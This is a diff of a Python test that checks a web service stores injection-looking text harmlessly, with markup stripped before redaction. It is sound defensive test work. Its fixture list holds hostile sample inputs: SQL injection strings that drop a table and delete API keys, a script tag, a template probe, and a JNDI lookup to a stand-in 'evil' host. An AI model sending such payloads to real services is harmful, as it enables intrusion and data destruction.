@@ -140,7 +140,7 @@ def test_an_over_large_body_is_413_before_it_is_read(service):
     assert stored(service) == 0
 
 
-def test_injection_looking_text_is_stored_verbatim_and_harmless(service):
+def test_injection_looking_text_is_stored_as_text_and_harmless(service):
     nasty = [
         "'); DROP TABLE response; --",
         "<script>alert('x')</script> Robert'); DELETE FROM api_key;--",
@@ -155,6 +155,11 @@ def test_injection_looking_text_is_stored_verbatim_and_harmless(service):
         ids = [i["id"] for i in reply.json()["items"]]
     with service.client("read") as client:
         texts = [client.get(f"/v1/responses/{i}").json()["text"] for i in ids]
-    # NUL is the one character removed: PostgreSQL text cannot hold it.
-    assert texts == [t.replace("\u0000", "") for t in nasty]
+    # Stored as the engine reads it: markup removed (a script's content with it) and spacing tidied before
+    # redaction, so markup cannot hide personal data; NUL removed, PostgreSQL text cannot hold it.
+    assert texts == [
+        "'); DROP TABLE response; --",
+        "Robert'); DELETE FROM api_key;--",
+        "{{7*7}} ${jndi:ldap://evil/a} end",
+    ]
     assert stored(service) == 3
